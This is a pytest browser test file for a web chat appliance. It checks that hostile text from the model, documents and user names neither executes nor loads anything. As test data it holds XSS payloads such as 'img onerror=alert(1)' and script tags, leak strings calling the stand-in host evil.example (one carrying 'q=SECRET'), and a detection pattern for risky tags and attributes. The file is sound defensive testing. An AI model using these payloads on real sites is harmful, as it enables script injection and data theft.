"""Hostile words in a real browser, from the model, documents, their files, and names: nothing runs, nothing is fetched."""

from __future__ import annotations

import random
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from appliance.web.markdown import to_html
from tests.web.conftest import PASSWORD
from tests.web.test_browser import browser  # noqa: F401 - a fixture
from tests.web.test_markdown import HOSTILE
from tests.web.test_server import serving

pytestmark = pytest.mark.browser

NAME = "Eve <img src=x onerror=alert(1)>"
CSS = "<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=https://evil.example/x.css>"
LEAKS = [
    "![](https://evil.example/a.png?q=SECRET)",
    "<img src='https://evil.example/b.png'>",
    "[![](https://evil.example/c.png)](https://evil.example/d)",
    CSS,
    "<video poster=https://evil.example/e></video><audio src=https://evil.example/f autoplay></audio>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/g'>",
    "$\\text{<img src=https://evil.example/h>}$",
    "<form action=https://evil.example/i><button autofocus>x</button></form>",
]
ANSWER = "\n\n".join(["A calm start [1].", *HOSTILE, *LEAKS, "A calm end [2]."])
# What a page holds after a browser has read it, and what of it could run or load.
DANGERS = """(root) => [...root.querySelectorAll("*")].flatMap((one) => [
  ...(["SCRIPT", "IFRAME", "OBJECT", "EMBED", "FORM", "STYLE", "LINK", "META", "BASE", "IMG", "VIDEO", "AUDIO", "INPUT",
    "TEMPLATE"].includes(one.tagName.toUpperCase()) ? [one.tagName] : []),
  ...(one.namespaceURI.includes("svg") ? ["svg"] : []),
  ...[...one.attributes].filter((each) => /^on|^style$|^src|^srcdoc$|^xlink|^action/i.test(each.name)
    || (each.name === "href" && !/^(\\/(?![\\/\\\\])|#)/.test(each.value)))
    .map((each) => `${one.tagName} ${each.name}=${each.value}`),
])"""


@contextmanager
def watched(browser: Any, address: str, **how: Any) -> Iterator[Any]:  # noqa: F811
    """A page that fails the test for a dialog, a script's fault, or a request to anybody but `address`."""
    context = browser.new_context(**how)
    page = context.new_page()
    trouble: list[str] = []

    def answer(dialog: Any) -> None:
        trouble.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", answer)
    page.on("pageerror", lambda error: trouble.append(f"script {error}"))
    page.on("popup", lambda opened: trouble.append(f"window {opened.url}"))
    page.on("request", lambda sent: None if sent.url.startswith((address, "data:,", "about:")) else trouble.append(sent.url))
    yield page
    assert not page.evaluate("window.pwned")
    context.close()
    assert trouble == []


@pytest.fixture(scope="module")
def hostile(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Any]]:  # noqa: F811
    """(address, state of a signed-in browser) of a box whose model, whose documents and whose administrator are hostile."""
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "answer.md").write_text(ANSWER, "utf-8")
    with serving(folder / "home", "0", f"answer={folder / 'answer.md'}") as (address, code, _):
        page = browser.new_page()
        page.goto(address)
        for field, words in (("#code", code), ("#name", NAME), ("#password", PASSWORD)):
            page.fill(field, words)
        page.click("button.main")
        page.wait_for_url("**/chat")
        state = page.context.storage_state()
        page.close()
        yield address, state


def dangers(page: Any, selector: str) -> list[str]:
    return [danger for part in page.query_selector_all(selector) for danger in part.evaluate(DANGERS)]


@pytest.mark.parametrize("scripts", [True, False])
def test_hostile_words_run_nothing_and_fetch_nothing(browser: Any, hostile: tuple[str, Any], scripts: bool) -> None:  # noqa: F811
    address, state = hostile
    with watched(browser, address, storage_state=state, java_script_enabled=scripts) as page:
        page.goto(f"{address}/chat")
        page.fill("#question", "leaves <script>alert(1)</script> evil <img src=x onerror=alert(1)>")
        page.click("#send")
        if scripts:
            page.wait_for_selector(".answer[data-state=done]")
        while page.locator(".answer[data-state=done]").count() == 0:
            page.reload()
        words = page.locator(".answer .prose").inner_text()
        assert "A calm start" in words and "A calm end" in words and "evil.example" in words
        url = page.url
        assert dangers(page, ".answer .prose, .said, .chats") == []
        if scripts:
            page.click(".answer .cite >> nth=0")
            page.wait_for_selector("#source[open] mark.here")
            assert dangers(page, "#source-body") == []
            page.keyboard.press("Escape")
        page.click(".more summary")
        page.fill("#rename", "</title><script>alert(1)</script>")
        page.click("text=Rename")
        page.goto(f"{address}/keys")
        page.fill("#name", "</option><script>alert(1)</script>")
        page.click("button.main")
        for path in (
            "/library",
            "/passage/31",
            "/document/evil",
            "/about",
            "/nowhere?<script>alert(1)</script>",
            "/%3Cscript%3E",
        ):
            page.goto(address + path)
            assert page.locator("h1").count() == 1
        page.goto(url)
        assert "Eve <img" in page.locator(".top .me").inner_text() and "</title>" in page.locator("#title").inner_text()
        assert dangers(page, ".answer .prose, .said, .chats, .chat-head h1, .top nav") == []


def test_the_clean_text_alone_is_harmless_in_a_page_without_any_policy(browser: Any) -> None:  # noqa: F811
    """The way it comes into the page: as a string that a browser reads, writes and reads again."""
    dice = random.Random(18)
    pieces = [*HOSTILE, *LEAKS, "\n\n", "$", "$$", "```\n", "`", "|a|\n|-|\n|", "[1]", "> ", "**"]
    texts = [*HOSTILE, *LEAKS, ANSWER, *("".join(dice.choices(pieces, k=dice.randrange(2, 12))) for _ in range(400))]
    made = [str(to_html(text, [{"id": 1}])) for text in texts]
    with watched(browser, "about:") as page:
        page.set_content("<!doctype html><div id=here></div>")
        found = page.evaluate(
            """([made, look]) => {
              const here = document.getElementById("here"), dangers = eval(look);
              return made.map((html) => {
                here.innerHTML = html;
                here.innerHTML = here.innerHTML;
                return dangers(here);
              });
            }""",
            [made, DANGERS],
        )
        page.wait_for_timeout(200)
    assert [(texts[number], danger) for number, danger in enumerate(found) if danger] == []


def test_the_test_itself_would_see_it(browser: Any, tmp_path: Path) -> None:  # noqa: F811
    del tmp_path
    with pytest.raises(AssertionError, match="dialog"), watched(browser, "about:") as page:
        page.set_content("<img src=x onerror=alert(1)>")
        page.wait_for_timeout(300)
